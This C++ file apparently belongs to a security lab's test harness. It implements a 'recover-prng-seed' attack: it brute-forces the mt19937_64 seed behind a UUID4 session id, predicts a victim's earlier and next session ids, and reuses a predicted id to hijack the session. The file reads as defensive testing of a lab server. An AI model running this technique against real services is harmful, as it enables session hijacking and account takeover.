// recover-prng-seed: the attacker logs in once, and from the one session id it
// was given searches for the seed of the std::mt19937_64 that produced it. With
// the seed it computes the ids the server issued before (the victim's earlier
// session) and will issue next (the victim's next login), before seeing them.
// Exploited when a computed id is exactly the one the victim holds.
//
// The full search covers all 2^32 seeds (at most about 6 minutes on two cores:
// what `lab attack recover-prng-seed --stage 2` does); the matrix starts stage 2
// with a narrowed seed (`--narrow-prng-seed`) so the same search takes a second.
#include <algorithm>

#include "attacks/attack_helpers.h"
#include "attacks/attack_list.h"
#include "attacks/mt19937_seed_search.h"

namespace lab::attacks {
namespace {

constexpr int kIdsSearched = 8;   // the observed id is one of the process's first 8
constexpr int kIdsPredicted = 8;  // ids computed ahead of the observed one

bool contains(const std::vector<std::string>& ids, const std::string& id) {
  return std::find(ids.begin(), ids.end(), id) != ids.end();
}

class RecoverPrngSeed final : public Attack {
 public:
  std::string_view id() const override { return "recover-prng-seed"; }
  std::string_view title() const override { return "Recover the session-id generator from one id"; }
  bool runs_alone() const override { return true; }  // its seed search uses every core

  AttackResult run(const Target& t) const override {
    const auto victim_id = victim_identity(t);
    auto earlier = client::open_session(t.stage, t.endpoint, victim_id);
    if (!earlier) return failed("victim cannot log in: " + earlier.error().message);
    auto attacker = client::open_session(t.stage, from_other_host(t), attacker_identity(t));
    if (!attacker) return failed("attacker cannot log in: " + attacker.error().message);
    const std::string own = (*attacker)->session_id.value_or("");

    const auto observed = parse_uuid4(own);
    if (!observed) return blocked("the attacker's session id " + own + " is not a UUID4: there is no generator output to invert");
    const std::uint64_t space = 1ULL << std::clamp(t.settings.prng_seed_bits, 1, 32);
    const auto found = recover_seed(*observed, SeedSearch{.seed_space = space, .max_index = kIdsSearched});
    const std::string searched = std::to_string(space) + " seeds x " + std::to_string(kIdsSearched) + " positions";
    if (!found) {
      return blocked("no std::mt19937_64 seed among " + searched + " produces " + own +
                     ": the id does not come from a 32-bit-seeded generator");
    }
    std::vector<std::string> before, after;
    for (int i = 0; i < found->index; ++i) before.push_back(session_id_at(found->seed, i));
    for (int i = found->index + 1; i <= found->index + kIdsPredicted; ++i) after.push_back(session_id_at(found->seed, i));

    auto later = client::open_session(t.stage, t.endpoint, victim_id);  // after the prediction was made
    if (!later) return failed("victim cannot log in again: " + later.error().message);
    const std::string earlier_id = (*earlier)->session_id.value_or("");
    const std::string later_id = (*later)->session_id.value_or("");
    const bool got_earlier = contains(before, earlier_id);
    const bool got_later = contains(after, later_id);
    const std::string recovered = "from its own id " + own + " (id #" + std::to_string(found->index + 1) +
                                  " of the process) the attacker recovered the seed " + std::to_string(found->seed) +
                                  " after searching " + std::to_string(found->seeds_tried) + " seeds in " +
                                  std::to_string(found->took.count()) + " ms";
    if (!got_earlier && !got_later) {
      return blocked(recovered + ", but neither of the victim's ids (" + earlier_id + ", " + later_id +
                     ") is among the ids it computed");
    }
    // What the id alone is worth: an unsigned request that names it.
    auto probe = client::open_connection(from_other_host(t));
    std::string alone = "";
    if (probe) {
      (*probe)->session_id = later_id;
      auto info = (*probe)->call("get_session_info");
      alone = info ? "; the predicted id alone already acts as " + info->value("agent_id", "?")
                   : "; the id alone is not a credential here (" + describe(info.error()) + ")";
    }
    return exploited(recovered + ", then computed " + (got_earlier ? "the victim's earlier session id " + earlier_id : "") +
                     (got_earlier && got_later ? " and " : "") +
                     (got_later ? "the victim's next session id " + later_id + " before the victim logged in" : "") +
                     alone);
  }
};

}  // namespace

std::unique_ptr<Attack> make_recover_prng_seed() { return std::make_unique<RecoverPrngSeed>(); }

}  // namespace lab::attacks
